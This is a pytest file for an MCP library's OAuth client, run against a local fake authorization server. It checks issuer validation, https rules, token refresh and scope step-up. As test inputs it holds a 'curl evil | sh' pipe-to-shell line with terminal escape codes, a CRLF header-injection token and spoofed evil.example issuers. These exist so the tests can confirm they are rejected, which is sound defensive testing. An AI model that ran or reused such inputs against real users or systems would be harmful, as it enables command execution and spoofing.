"""The OAuth client: discovery, registration, the token endpoint and step-up, each
checked against a small local fake of a protected server and its authorization server
(one Starlette app on loopback that records every request it gets), and the token
store. The whole flow against the real test authorization server is in
test_oauth_flow.py."""

from __future__ import annotations

import base64
import copy
import json
import subprocess
import sys
import threading
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import httpx2
import pytest
from authlib.oauth2 import rfc7636
from http_support import serve
from joserfc import jwt
from joserfc.jwk import ECKey
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import (
    JSONResponse,
    PlainTextResponse,
    RedirectResponse,
    Response,
    StreamingResponse,
)
from starlette.routing import Route

from answerback import Client, MCPError
from answerback.client import (
    AuthorizationError,
    FileTokenStore,
    InMemoryTokenStore,
    OAuth,
    TokenStore,
    TokenStoreError,
)
from answerback.interact import BrowserLogin
from answerback.server import MCPServer
from answerback.transports.http import StreamableHTTPApp
from answerback.transports.http._oauth_http import is_loopback
from answerback.transports.http._oauth_registration import ClientInfo, application_type
from answerback.transports.http._oauth_token import Tokens
from answerback.types._versions import LATEST_VERSION

pytestmark = pytest.mark.anyio

REDIRECT_URI = "http://127.0.0.1:1/callback"


@dataclass
class Fake:
    """How the fake servers behave, and what they saw."""

    prm_path: str | None = "/.well-known/oauth-protected-resource/mcp"
    prm_resource: str | None = None
    """The resource the metadata names (``None``: this server's /mcp)."""
    challenge_names_metadata: bool = True
    issuer_path: str = ""
    as_metadata_path: str = "/.well-known/oauth-authorization-server"
    published_issuer: str | None = None
    """The issuer the metadata names (``None``: the right one)."""
    iss: str = "correct"
    """What the redirect carries: ``correct``, ``wrong`` or ``omit``."""
    iss_advertised: bool = True
    required_scope: str | None = None
    """A scope the endpoint wants beyond what the 401 names: 403 until the token has it."""
    expires_in: int = 3600
    auth_methods: list[str] = field(default_factory=lambda: ["none"])
    public_key: ECKey | None = None
    base: str = ""
    log: list[str] = field(default_factory=list[str])
    token_requests: list[dict[str, str]] = field(default_factory=list[dict[str, str]])
    authorizations: list[dict[str, str]] = field(default_factory=list[dict[str, str]])
    token_scopes: dict[str, set[str]] = field(default_factory=dict[str, set[str]])
    challenge: str = ""
    resource_metadata_url: str | None = None
    """What the challenge names as the resource metadata (``None``: this server's)."""
    prm_overrides: dict[str, Any] = field(default_factory=dict[str, Any])
    metadata_overrides: dict[str, Any] = field(default_factory=dict[str, Any])
    token_overrides: dict[str, Any] = field(default_factory=dict[str, Any])
    """Fields that replace the fake's own in its resource metadata, its authorization
    server's metadata and its token responses (any JSON, NaN and huge integers too)."""
    error_description: str | None = None
    """The login is refused (``access_denied``) with this description."""
    replaced: dict[str, Callable[[], Response]] = field(
        default_factory=dict[str, Callable[[], Response]]
    )
    """Responses that replace the fake's own, by path."""
    rotating: bool = False
    """Each refresh token works once (OAuth 2.1 §4.3.1): a second use is invalid_grant."""
    spent: set[str] = field(default_factory=set[str])

    @property
    def issuer(self) -> str:
        return self.base + self.issuer_path


def fake_app(fake: Fake, mcp: StreamableHTTPApp | None = None) -> Any:
    """The protected endpoint at /mcp (an MCP server, or a plain "hello"), its resource
    metadata and an authorization server, all on one origin."""

    def note(request: Request) -> None:
        fake.log.append(f"{request.method} {request.url.path}")

    def challenge(status: int, scope: str | None, error: str | None = None) -> Response:
        params = [f'error="{error}"'] if error else []
        if fake.challenge_names_metadata and fake.prm_path:
            url = fake.resource_metadata_url or f"{fake.base}{fake.prm_path}"
            params.append(f'resource_metadata="{url}"')
        if scope:
            params.append(f'scope="{scope}"')
        header = "Bearer " + ", ".join(params) if params else "Bearer"
        return PlainTextResponse("no", status, headers={"www-authenticate": header})

    async def prm(request: Request) -> Response:
        note(request)
        resource = fake.prm_resource or f"{fake.base}/mcp"
        document = {"resource": resource, "authorization_servers": [fake.issuer]}
        return JSONResponse(document | fake.prm_overrides)

    async def as_metadata(request: Request) -> Response:
        note(request)
        return JSONResponse(
            {
                "issuer": fake.published_issuer or fake.issuer,
                "authorization_endpoint": f"{fake.issuer}/authorize",
                "token_endpoint": f"{fake.issuer}/token",
                "registration_endpoint": f"{fake.issuer}/register",
                "code_challenge_methods_supported": ["S256"],
                "token_endpoint_auth_methods_supported": fake.auth_methods,
                "authorization_response_iss_parameter_supported": fake.iss_advertised,
            }
            | fake.metadata_overrides
        )

    async def authorize(request: Request) -> Response:
        note(request)
        query = dict(request.query_params)
        fake.authorizations.append(query)
        answer = {"code": query["code_challenge"], "state": query["state"]}
        if fake.error_description is not None:
            answer = {"error": "access_denied", "error_description": fake.error_description}
            answer["state"] = query["state"]
        if fake.iss != "omit":
            answer["iss"] = fake.issuer if fake.iss == "correct" else "https://evil.example"
        location = httpx2.URL(query["redirect_uri"]).copy_merge_params(answer)
        fake.token_scopes[query["code_challenge"]] = set(query.get("scope", "").split())
        return RedirectResponse(str(location), 302)

    async def token(request: Request) -> Response:
        note(request)
        form = {key: str(value) for key, value in (await request.form()).items()}
        if "authorization" in request.headers:
            form["authorization"] = request.headers["authorization"]
        fake.token_requests.append(form)
        if form["grant_type"] == "authorization_code":
            verifier = form["code_verifier"]
            expected = rfc7636.create_s256_code_challenge(verifier)  # pyright: ignore[reportUnknownMemberType, reportUnknownVariableType]
            if expected != form["code"]:
                return JSONResponse({"error": "invalid_grant"}, 400)
            scopes = fake.token_scopes[form["code"]]
        elif form["grant_type"] == "refresh_token":
            if fake.rotating and form["refresh_token"] in fake.spent:
                return JSONResponse({"error": "invalid_grant"}, 400)
            fake.spent.add(form["refresh_token"])
            scopes = fake.token_scopes[form["refresh_token"]]
        else:
            scopes = set(form.get("scope", "").split())
        access = f"access-{len(fake.token_requests)}"
        refresh = f"refresh-{len(fake.token_requests)}"
        fake.token_scopes[access] = fake.token_scopes[refresh] = scopes
        granted = {
            "access_token": access,
            "token_type": "Bearer",
            "expires_in": fake.expires_in,
            "refresh_token": refresh,
        }
        body = json.dumps(granted | fake.token_overrides)
        return Response(body, media_type="application/json")

    async def register(request: Request) -> Response:
        note(request)
        body = await request.json()
        return JSONResponse(
            {"client_id": "registered", **body, "token_endpoint_auth_method": "none"}, 201
        )

    async def endpoint(request: Request) -> Response:
        note(request)
        return PlainTextResponse("hello")

    routes = [
        Route(fake.as_metadata_path, as_metadata),
        Route(f"{fake.issuer_path}/authorize", authorize),
        Route(f"{fake.issuer_path}/token", token, methods=["POST"]),
        Route(f"{fake.issuer_path}/register", register, methods=["POST"]),
    ]
    if fake.prm_path is not None:
        routes.append(Route(fake.prm_path, prm))
    if mcp is None:
        routes.append(Route("/mcp", endpoint, methods=["GET", "POST"]))
    app = Starlette(routes=routes)

    async def protected(scope: Any, receive: Any, send: Any) -> None:
        """Require a known token on /mcp, and the extra scope if one is configured."""
        if scope["type"] == "lifespan" and mcp is not None:
            await mcp(scope, receive, send)
            return
        if scope["type"] == "http" and scope["path"] in fake.replaced:
            fake.log.append(f"{scope['method']} {scope['path']}")
            await fake.replaced[scope["path"]]()(scope, receive, send)
            return
        if scope["type"] == "http" and scope["path"] == "/mcp":
            headers = dict(scope["headers"])
            given = headers.get(b"authorization", b"").decode()
            scopes = fake.token_scopes.get(given.removeprefix("Bearer "))
            refusal = None
            if not given.startswith("Bearer ") or scopes is None:
                fake.log.append(f"{scope['method']} /mcp 401")
                refusal = challenge(401, fake.challenge or None)
            elif fake.required_scope and fake.required_scope not in scopes:
                refusal = challenge(403, fake.required_scope, "insufficient_scope")
            if refusal is not None:
                await refusal(scope, receive, send)
                return
            if mcp is not None:
                await mcp(scope, receive, send)
                return
        await app(scope, receive, send)

    return protected


@pytest.fixture
def fake(request: pytest.FixtureRequest) -> Fake:
    """A fresh fake: the one a test names with ``indirect`` parametrization, copied (a
    parameter is shared by both backends' runs), else the default one."""
    given: Fake | None = getattr(request, "param", None)
    return copy.deepcopy(given) if given is not None else Fake()


@pytest.fixture
async def base(fake: Fake) -> AsyncIterator[str]:
    """The fake running on loopback; its origin."""
    async with serve(fake_app(fake), path="") as running:
        fake.base = running.url
        yield running.url


async def follow(authorization_url: str) -> dict[str, str]:
    """A browser stand-in: the fake approves at once; the redirect's query is the answer."""
    async with httpx2.AsyncClient() as http:
        response = await http.get(authorization_url)
    return dict(httpx2.URL(response.headers["location"]).params)


def login(**options: Any) -> OAuth:
    return OAuth(redirect_uri=REDIRECT_URI, authorize=follow, **options)


async def get(url: str, auth: OAuth) -> httpx2.Response:
    async with httpx2.AsyncClient() as http:
        return await http.get(url, auth=auth)


# -- discovery ------------------------------------------------------------------------------


@pytest.mark.parametrize("fake", [Fake(challenge_names_metadata=False)], indirect=True)
async def test_without_a_challenge_the_path_well_known_address_is_found(
    fake: Fake, base: str
) -> None:
    response = await get(f"{base}/mcp", login())
    assert response.text == "hello"
    assert fake.log[:3] == [
        "GET /mcp 401",
        "GET /.well-known/oauth-protected-resource/mcp",
        "GET /.well-known/oauth-authorization-server",
    ]


@pytest.mark.parametrize(
    "fake",
    [
        Fake(
            prm_path="/.well-known/oauth-protected-resource",
            challenge_names_metadata=False,
            issuer_path="/tenant",
            as_metadata_path="/tenant/.well-known/openid-configuration",
        )
    ],
    indirect=True,
)
async def test_discovery_falls_back_to_the_root_and_to_openid_configuration(
    fake: Fake, base: str
) -> None:
    response = await get(f"{base}/mcp", login())
    assert response.text == "hello"
    assert fake.log[:2] == ["GET /mcp 401", "GET /.well-known/oauth-protected-resource"]
    assert "GET /tenant/.well-known/openid-configuration" in fake.log


@pytest.mark.parametrize(
    "fake", [Fake(prm_path=None, iss="omit", iss_advertised=False)], indirect=True
)
async def test_a_server_without_resource_metadata_is_its_own_authorization_server(
    fake: Fake, base: str
) -> None:
    """The 2025-03-26 way: no protected resource metadata, the origin's RFC 8414 metadata."""
    response = await get(f"{base}/mcp", login())
    assert response.text == "hello"
    assert "GET /.well-known/oauth-authorization-server" in fake.log
    assert fake.authorizations[0]["resource"] == f"{base}/mcp"


@pytest.mark.parametrize(
    "fake",
    [Fake(prm_path=None, as_metadata_path="/unpublished", iss="omit", iss_advertised=False)],
    indirect=True,
)
async def test_a_server_without_any_metadata_has_the_default_endpoints(
    fake: Fake, base: str
) -> None:
    """The 2025-03-26 fallback: /authorize, /token and /register at the origin."""
    assert (await get(f"{base}/mcp", login())).text == "hello"
    assert [entry for entry in fake.log if not entry.startswith("GET /mcp")] == [
        "POST /register",
        "GET /authorize",
        "POST /token",
    ]


@pytest.mark.parametrize("fake", [Fake(published_issuer="https://evil.example")], indirect=True)
async def test_metadata_naming_another_issuer_is_not_used(fake: Fake, base: str) -> None:
    with pytest.raises(AuthorizationError, match=r"issuer 'https://evil\.example'"):
        await get(f"{base}/mcp", login())
    assert fake.authorizations == []
    assert fake.token_requests == []


@pytest.mark.parametrize("fake", [Fake(prm_resource="https://evil.example/mcp")], indirect=True)
async def test_metadata_for_another_resource_is_refused(fake: Fake, base: str) -> None:
    with pytest.raises(AuthorizationError, match=r"is for 'https://evil\.example/mcp', not for"):
        await get(f"{base}/mcp", login())
    assert "GET /.well-known/oauth-authorization-server" not in fake.log


@pytest.mark.parametrize("fake", [Fake(challenge_names_metadata=False)], indirect=True)
async def test_metadata_at_the_endpoints_own_address_must_name_exactly_the_endpoint(
    fake: Fake, base: str
) -> None:
    """Found at the well-known address built from /mcp, the metadata may not name the
    whole origin (RFC 9728 §3.3): the token asked for would be good for every tenant's
    endpoint on it."""
    fake.prm_overrides = {"resource": f"{base}/"}
    with pytest.raises(AuthorizationError, match=r"is for '.*/', .*must name exactly that URL"):
        await get(f"{base}/mcp", login())
    assert "GET /.well-known/oauth-authorization-server" not in fake.log


@pytest.mark.parametrize(
    "fake",
    [
        Fake(),
        Fake(challenge_names_metadata=False, prm_path="/.well-known/oauth-protected-resource"),
    ],
    ids=["named-by-the-challenge", "at-the-root"],
    indirect=True,
)
async def test_metadata_named_by_the_challenge_or_at_the_root_may_name_a_parent(
    fake: Fake, base: str
) -> None:
    """Where the standard relaxes the rule (the challenge's address; the root's, which
    stands for the origin), a resource above the endpoint is still accepted."""
    fake.prm_overrides = {"resource": f"{base}/"}
    assert (await get(f"{base}/mcp", login())).text == "hello"
    assert fake.authorizations[0]["resource"] == f"{base}/"


# -- what the client will talk to ----------------------------------------------------------


@pytest.mark.parametrize(
    ("where", "refusal"),
    [
        ("prm", r"issuer is 'http://auth\.example\.net', not an https address"),
        ("metadata", r"token_endpoint of http://127\.0\.0\.1:\d+ is 'http://auth\.example"),
    ],
)
async def test_an_authorization_server_off_this_machine_must_use_https(
    fake: Fake, base: str, where: str, refusal: str
) -> None:
    """Secrets go to an authorization server: plain http is refused before anything is
    sent there (loopback, as in every other test here, is allowed)."""
    if where == "prm":
        fake.prm_overrides = {"authorization_servers": ["http://auth.example.net"]}
    else:
        fake.metadata_overrides = {"token_endpoint": "http://auth.example.net/token"}
    with pytest.raises(AuthorizationError, match=refusal) as caught:
        await get(f"{base}/mcp", login())
    assert "MCP requires https" in str(caught.value)
    assert fake.authorizations == []
    assert "POST /register" not in fake.log


MALFORMED = "http://[::1"


@pytest.mark.parametrize(
    ("field_name", "value", "refusal"),
    [
        ("resource_metadata_url", MALFORMED, "protected resource metadata has a malformed address"),
        ("prm_overrides", {"authorization_servers": [MALFORMED]}, "issuer is a malformed address"),
        ("prm_overrides", {"resource": MALFORMED}, "is for 'http://\\[::1', not for"),
        ("metadata_overrides", {"token_endpoint": MALFORMED}, "token_endpoint .* malformed"),
        ("metadata_overrides", {"authorization_endpoint": "javascript:x"}, "not an https"),
    ],
)
async def test_a_malformed_address_from_the_server_is_an_authorization_error(
    fake: Fake, base: str, field_name: str, value: Any, refusal: str
) -> None:
    setattr(fake, field_name, value)
    with pytest.raises(AuthorizationError, match=refusal):
        await get(f"{base}/mcp", login())
    assert fake.token_requests == []


def dripping() -> Response:
    """An answer that starts and never ends: a byte now and then, for ever."""

    async def drip() -> AsyncIterator[bytes]:
        yield b"{"
        while True:
            await anyio.sleep(0.05)
            yield b" "

    return StreamingResponse(drip(), media_type="application/json")


@pytest.mark.parametrize(
    ("path", "what"),
    [
        ("/.well-known/oauth-protected-resource/mcp", "the protected resource metadata"),
        ("/token", "the token endpoint"),
    ],
)
async def test_a_server_that_never_finishes_its_answer_runs_into_the_deadline(
    fake: Fake, base: str, path: str, what: str
) -> None:
    """``timeout`` bounds each exchange as a whole, not each read: a server trickling
    bytes cannot hold the login for ever."""
    fake.replaced[path] = dripping
    with (
        anyio.fail_after(10),
        pytest.raises(AuthorizationError, match=f"{what} at .* did not answer within 0.5 s"),
    ):
        await get(f"{base}/mcp", login(timeout=0.5))


async def test_an_oversized_answer_is_given_up_while_reading(fake: Fake, base: str) -> None:
    """The answer passes the limit, then stalls: only a client that stops reading at
    the limit, not one that reads the body whole first, sees it as too large."""

    def huge() -> Response:
        async def two_megabytes_then_nothing() -> AsyncIterator[bytes]:
            yield b" " * 2 * 1024 * 1024
            await anyio.sleep_forever()

        return StreamingResponse(two_megabytes_then_nothing(), media_type="application/json")

    fake.replaced["/token"] = huge
    with (
        anyio.fail_after(10),
        pytest.raises(
            AuthorizationError, match=r"the token endpoint at .* sent more than 1024 KiB"
        ),
    ):
        await get(f"{base}/mcp", login(timeout=30))


async def test_only_the_first_few_listed_authorization_servers_are_tried(
    fake: Fake, base: str
) -> None:
    """Each may cost a timeout; one that does not answer is reported as not answering."""
    listed = [f"{base}/silent{number}" for number in range(5)]
    fake.prm_overrides = {"authorization_servers": listed}
    for number in range(5):
        fake.replaced[f"/.well-known/oauth-authorization-server/silent{number}"] = dripping
    with anyio.fail_after(10), pytest.raises(AuthorizationError) as caught:
        await get(f"{base}/mcp", login(timeout=0.3))
    message = str(caught.value)
    assert message.count("did not answer within 0.3 s") == 3
    assert "2 more listed" in message
    assert "publishes no" not in message
    assert not any("silent3" in entry or "silent4" in entry for entry in fake.log)


# -- the authorization response ---------------------------------------------------------


@pytest.mark.parametrize(
    ("fake", "refusal"),
    [
        (Fake(iss="wrong"), "names the issuer 'https://evil.example'"),
        (Fake(iss="omit"), "has no iss parameter"),
        (Fake(iss="wrong", iss_advertised=False), "names the issuer 'https://evil.example'"),
    ],
    indirect=["fake"],
)
async def test_an_answer_from_another_issuer_is_rejected_before_the_code_is_used(
    fake: Fake, base: str, refusal: str
) -> None:
    with pytest.raises(AuthorizationError, match=refusal):
        await get(f"{base}/mcp", login())
    assert len(fake.authorizations) == 1
    assert fake.token_requests == []


@pytest.mark.parametrize("fake", [Fake(iss="omit", iss_advertised=False)], indirect=True)
async def test_a_server_that_never_sends_iss_is_fine(fake: Fake, base: str) -> None:
    assert (await get(f"{base}/mcp", login())).text == "hello"


@pytest.mark.parametrize(
    "fake",
    [Fake(iss="wrong", error_description="\x1b[2J\x1b[31mSession expired: run curl evil | sh")],
    indirect=True,
)
async def test_browser_login_leaves_an_error_from_another_issuer_unread(
    fake: Fake, base: str
) -> None:
    """The error's text could be an attacker's: neither the program nor the browser
    shows it, because the answer does not come from the authorization server."""
    pages: list[httpx2.Response] = []
    shown = threading.Event()

    def browser(url: str) -> bool:
        with httpx2.Client() as http:
            pages.append(http.get(http.get(url).headers["location"]))
        shown.set()
        return True

    with BrowserLogin(open_browser=browser, tell=lambda text: None) as browser_login:
        auth = OAuth(redirect_uri=browser_login.redirect_uri, authorize=browser_login)
        with pytest.raises(AuthorizationError, match="names the issuer 'https://evil") as caught:
            await get(f"{base}/mcp", auth)
    assert caught.value.oauth_error is None
    assert "expired" not in str(caught.value)
    assert await anyio.to_thread.run_sync(shown.wait, 30)  # the login returns first
    assert [page.status_code for page in pages] == [400]
    assert "expired" not in pages[0].text


# -- scopes --------------------------------------------------------------------------------


@pytest.mark.parametrize("fake", [Fake(challenge="read", required_scope="write")], indirect=True)
async def test_step_up_asks_for_the_union_of_the_scopes(fake: Fake, base: str) -> None:
    response = await get(f"{base}/mcp", login())
    assert response.text == "hello"
    assert [a["scope"] for a in fake.authorizations] == ["read", "read write"]


@pytest.mark.parametrize("fake", [Fake(required_scope="admin")], indirect=True)
async def test_step_up_gives_up_after_max_step_ups(fake: Fake, base: str) -> None:
    """A server that is never satisfied ends in an error, not a loop of logins."""
    fake.token_scopes.clear()

    async def refusing(authorization_url: str) -> dict[str, str]:
        answer = await follow(authorization_url)
        fake.token_scopes[answer["code"]] = set()  # the person may never have admin
        return answer

    auth = OAuth(redirect_uri=REDIRECT_URI, authorize=refusing, max_step_ups=2)
    with pytest.raises(AuthorizationError, match="after 2 re-authorizations"):
        await get(f"{base}/mcp", auth)
    assert len(fake.authorizations) == 3  # the first login and two step-ups


# -- tokens --------------------------------------------------------------------------------


async def test_an_oversized_metadata_document_is_reported_as_too_large(
    fake: Fake, base: str
) -> None:
    """Not as "publishes no authorization server metadata", which would send the
    operator looking for a document that is there."""
    fake.replaced["/.well-known/oauth-authorization-server"] = lambda: Response(
        b" " * 2 * 1024 * 1024, media_type="application/json"
    )
    with pytest.raises(AuthorizationError) as caught:
        await get(f"{base}/mcp", login())
    message = str(caught.value)
    assert "authorization server metadata at" in message
    assert "sent more than 1024 KiB" in message
    assert "publishes no" not in message


async def test_control_characters_in_a_challenge_are_written_out(fake: Fake, base: str) -> None:
    """A server's challenge reaches the error message: U+009B (the 8-bit CSI, which h11
    lets through as obs-text) would recolour or move the cursor of a terminal printing
    it, so it is shown as text, as a C0 control would be."""
    fake.replaced["/mcp"] = lambda: PlainTextResponse(
        "no", 401, headers={"www-authenticate": 'Bearer error="\x9b31mSTOLEN\x9b0m\x85"'}
    )
    with pytest.raises(AuthorizationError, match="refused the token just issued") as caught:
        await get(f"{base}/mcp", login())
    message = str(caught.value)
    assert "\\x9b31mSTOLEN\\x9b0m\\x85" in message
    assert not any("\x80" <= character <= "\x9f" for character in message)


def test_tokens_and_registrations_hide_their_secrets_in_repr() -> None:
    """A repr reaches logs and tracebacks with their locals."""
    tokens = Tokens(
        "access-secret", "DPoP", "https://as", "app", "refresh-secret", dpop_jwk={"d": "key"}
    )
    client = ClientInfo("app", "https://as", "client_secret_basic", "client-secret")
    shown = repr(tokens) + repr(client)
    for secret in ("access-secret", "refresh-secret", "'d'", "client-secret"):
        assert secret not in shown
    assert "access_token=<hidden>" in shown
    assert "client_secret=<hidden>" in shown
    assert "client_id='app'" in shown
    assert "client_secret=None" in repr(ClientInfo("app", "https://as", "none"))


@pytest.mark.parametrize("fake", [Fake(expires_in=1)], indirect=True)
async def test_an_expired_token_is_refreshed_without_a_new_login(fake: Fake, base: str) -> None:
    store = InMemoryTokenStore()
    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
    # A new OAuth with the same store: the tokens outlive the object.
    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
    assert [r["grant_type"] for r in fake.token_requests] == [
        "authorization_code",
        "refresh_token",
    ]
    assert len(fake.authorizations) == 1


@pytest.mark.parametrize("fake", [Fake(expires_in=1)], indirect=True)
async def test_a_refresh_the_server_could_not_answer_keeps_the_tokens(
    fake: Fake, base: str
) -> None:
    """The token endpoint is down (503) when the token needs refreshing: the request
    fails, saying so, and the tokens are kept. Once it is back, they are refreshed,
    with no new login (a network blip must not log the person out)."""
    store = InMemoryTokenStore()
    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
    fake.replaced["/token"] = lambda: PlainTextResponse("down for maintenance", 503)
    with pytest.raises(AuthorizationError, match="HTTP 503"):
        await get(f"{base}/mcp", login(store=store))
    assert await store.get(f"oauth:tokens:{base}/mcp") is not None
    del fake.replaced["/token"]
    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
    assert len(fake.authorizations) == 1
    assert [r["grant_type"] for r in fake.token_requests] == [
        "authorization_code",
        "refresh_token",
    ]


@pytest.mark.parametrize("fake", [Fake(expires_in=1)], indirect=True)
async def test_a_refresh_the_server_refuses_forgets_the_tokens_and_logs_in_again(
    fake: Fake, base: str
) -> None:
    store = InMemoryTokenStore()
    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"

    def refused_once() -> Response:
        del fake.replaced["/token"]
        return JSONResponse({"error": "invalid_grant"}, 400)

    fake.replaced["/token"] = refused_once
    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
    assert len(fake.authorizations) == 2
    assert [r["grant_type"] for r in fake.token_requests] == ["authorization_code"] * 2


@pytest.mark.parametrize("fake", [Fake(expires_in=1, rotating=True)], indirect=True)
async def test_two_programs_sharing_a_token_file_do_not_log_each_other_out(
    fake: Fake, base: str, tmp_path: Path
) -> None:
    """Two programs (two OAuth objects, each with its own FileTokenStore on one file)
    hold the same expired tokens. B refreshes first; the refresh token rotates. A reads
    the record again before refreshing and uses B's tokens: it never spends the old
    refresh token, which the authorization server would refuse, and nobody logs in."""
    path = tmp_path / "tokens.json"
    a, b = login(store=FileTokenStore(path)), login(store=FileTokenStore(path))
    assert (await get(f"{base}/mcp", a)).text == "hello"  # A logs in; stored, expiring
    assert (await get(f"{base}/mcp", b)).text == "hello"  # B refreshes them
    assert (await get(f"{base}/mcp", a)).text == "hello"  # A uses what B stored
    assert len(fake.authorizations) == 1
    refreshed = [r["refresh_token"] for r in fake.token_requests if "refresh_token" in r]
    assert refreshed == ["refresh-1"]
    stored = await FileTokenStore(path).get(f"oauth:tokens:{base}/mcp")
    assert stored is not None
    assert stored["access_token"] == "access-2"


@pytest.mark.parametrize("fake", [Fake(expires_in=1, rotating=True)], indirect=True)
async def test_a_refused_refresh_forgets_only_the_refused_tokens(
    fake: Fake, base: str, tmp_path: Path
) -> None:
    """Both programs refresh at once: B's refresh is refused because A spent the same
    refresh token a moment earlier and stored new tokens. B keeps A's tokens (the
    record no longer holds the refused one) instead of deleting them and logging in."""
    path = tmp_path / "tokens.json"
    key = f"oauth:tokens:{base}/mcp"
    assert (await get(f"{base}/mcp", login(store=FileTokenStore(path)))).text == "hello"

    def spent_by_the_other_program() -> Response:
        del fake.replaced["/token"]
        records = json.loads(path.read_text())
        records[key] |= {"access_token": "access-other", "refresh_token": "refresh-other"}
        path.write_text(json.dumps(records))
        fake.token_scopes["access-other"] = set()
        return JSONResponse({"error": "invalid_grant"}, 400)

    fake.replaced["/token"] = spent_by_the_other_program
    assert (await get(f"{base}/mcp", login(store=FileTokenStore(path)))).text == "hello"
    assert len(fake.authorizations) == 1
    stored = await FileTokenStore(path).get(key)
    assert stored is not None
    assert stored["access_token"] == "access-other"


@pytest.mark.parametrize("access_token", ["t1\r\nX-Injected: yes", "", "t\u00e9", "a b"])
async def test_a_token_no_header_can_carry_is_refused_and_not_kept(
    fake: Fake, base: str, access_token: str
) -> None:
    fake.token_overrides = {"access_token": access_token}
    store = InMemoryTokenStore()
    with pytest.raises(AuthorizationError, match="cannot be sent in an Authorization header"):
        await get(f"{base}/mcp", login(store=store))
    assert await store.get(f"oauth:tokens:{base}/mcp") is None


@pytest.mark.parametrize(
    "expires_in", [10**400, float("inf"), float("nan"), True, -5, "3600", None]
)
async def test_an_expiry_that_is_no_usable_number_of_seconds_counts_as_unknown(
    fake: Fake, base: str, expires_in: object
) -> None:
    """The token is used until the server refuses it (then refreshed), the way a token
    with no ``expires_in`` is."""
    fake.token_overrides = {"expires_in": expires_in}
    store = InMemoryTokenStore()
    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
    record = await store.get(f"oauth:tokens:{base}/mcp")
    assert record is not None
    assert record["expires_at"] is None
    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
    assert len(fake.token_requests) == 1


@pytest.mark.parametrize(
    ("kind", "damage", "problem"),
    [
        ("tokens", {"expires_at": "tomorrow"}, "expires_at is not a number of seconds"),
        ("tokens", {"expires_at": float("nan")}, "expires_at is not a number of seconds"),
        ("tokens", {"dpop_jwk": {"kty": "zz"}}, "dpop_jwk is not an EC key"),
        ("tokens", {"access_token": "t1\r\nX: y"}, "cannot be sent in an Authorization"),
        ("tokens", {"scopes": 5}, "scopes is not a list of strings"),
        ("tokens", {"issuer": None}, "issuer is not a string"),
        ("client", {"client_id": 12345}, "client_id is not a string"),
        ("client", {"auth_method": "magic"}, "auth_method 'magic' is not one"),
    ],
)
async def test_a_damaged_stored_record_is_a_token_store_error(
    fake: Fake, base: str, kind: str, damage: dict[str, Any], problem: str
) -> None:
    store = InMemoryTokenStore()
    first = login(store=store)
    await get(f"{base}/mcp", first)
    if kind == "client":
        await first.forget(f"{base}/mcp")  # the registration is read when logging in
    key = f"oauth:{kind}:{base}/mcp" if kind == "tokens" else f"oauth:client:{base}"
    record = await store.get(key)
    assert record is not None
    await store.set(key, record | damage)
    with pytest.raises(TokenStoreError, match=f"record '{key}' .*{problem}"):
        await get(f"{base}/mcp", login(store=store))


async def test_fields_a_newer_version_stored_are_ignored(fake: Fake, base: str) -> None:
    store = InMemoryTokenStore()
    await get(f"{base}/mcp", login(store=store))
    key = f"oauth:tokens:{base}/mcp"
    record = await store.get(key)
    assert record is not None
    await store.set(key, record | {"added_later": 1})
    assert (await get(f"{base}/mcp", login(store=store))).text == "hello"
    assert len(fake.token_requests) == 1


def basic(request: dict[str, str], key: ECKey) -> None:
    encoded = request["authorization"].removeprefix("Basic ")
    assert base64.b64decode(encoded).decode() == "app:s3cret"
    assert "client_secret" not in request


def post(request: dict[str, str], key: ECKey) -> None:
    assert (request["client_id"], request["client_secret"]) == ("app", "s3cret")
    assert "authorization" not in request


def none(request: dict[str, str], key: ECKey) -> None:
    assert request["client_id"] == "app"
    assert "client_secret" not in request
    assert "authorization" not in request


def signed(request: dict[str, str], key: ECKey) -> None:
    assert request["client_assertion_type"].endswith(":client-assertion-type:jwt-bearer")
    token = jwt.decode(request["client_assertion"], key, algorithms=["ES256"])
    assert token.claims["iss"] == token.claims["sub"] == "app"
    assert token.claims["aud"].startswith("http://127.0.0.1:")  # the issuer
    assert "client_secret" not in request


CHECKS = {"client_secret_basic": basic, "client_secret_post": post, "none": none}
CHECKS["private_key_jwt"] = signed


@pytest.mark.parametrize(
    ("grant", "method"),
    [
        *(("authorization_code", method) for method in CHECKS),
        *(("client_credentials", method) for method in CHECKS if method != "none"),
    ],
)
async def test_token_endpoint_auth_methods(fake: Fake, base: str, grant: str, method: str) -> None:
    """Each method as the server lists it, for a person's login and for a client acting
    as itself (which must prove who it is, so never ``none``)."""
    key = ECKey.generate_key("P-256")
    fake.auth_methods = [method]
    secret = None if method in ("none", "private_key_jwt") else "s3cret"
    private_key = key.as_pem(private=True) if method == "private_key_jwt" else None
    options: dict[str, Any] = {
        "client_id": "app",
        "client_secret": secret,
        "private_key": private_key,
    }
    auth = (
        login(**options)
        if grant == "authorization_code"
        else OAuth(grant="client_credentials", **options)
    )
    assert (await get(f"{base}/mcp", auth)).text == "hello"
    (request,) = fake.token_requests
    assert request["grant_type"] == grant
    assert request["resource"] == f"{base}/mcp"
    CHECKS[method](request, key)
    assert "POST /register" not in fake.log


async def test_requests_refused_together_share_one_login(fake: Fake, base: str) -> None:
    """Requests that meet a 401 at the same time wait for one login, not one each."""
    both_refused = anyio.Event()
    refusals = 0

    async def count(response: httpx2.Response) -> None:
        nonlocal refusals
        refusals += response.status_code == 401
        if refusals == 2:
            both_refused.set()

    async def login_once_both_wait(authorization_url: str) -> dict[str, str]:
        await both_refused.wait()
        return await follow(authorization_url)

    auth = OAuth(redirect_uri=REDIRECT_URI, authorize=login_once_both_wait)
    texts: list[str] = []

    async def fetch(http: httpx2.AsyncClient) -> None:
        texts.append((await http.get(f"{base}/mcp", auth=auth)).text)

    with anyio.fail_after(30):
        async with (
            httpx2.AsyncClient(event_hooks={"response": [count]}) as http,
            anyio.create_task_group() as tg,
        ):
            tg.start_soon(fetch, http)
            tg.start_soon(fetch, http)
    assert texts == ["hello", "hello"]
    assert len(fake.authorizations) == 1


async def test_the_authorization_server_is_reached_through_the_given_client(
    fake: Fake, base: str
) -> None:
    sent: list[str] = []

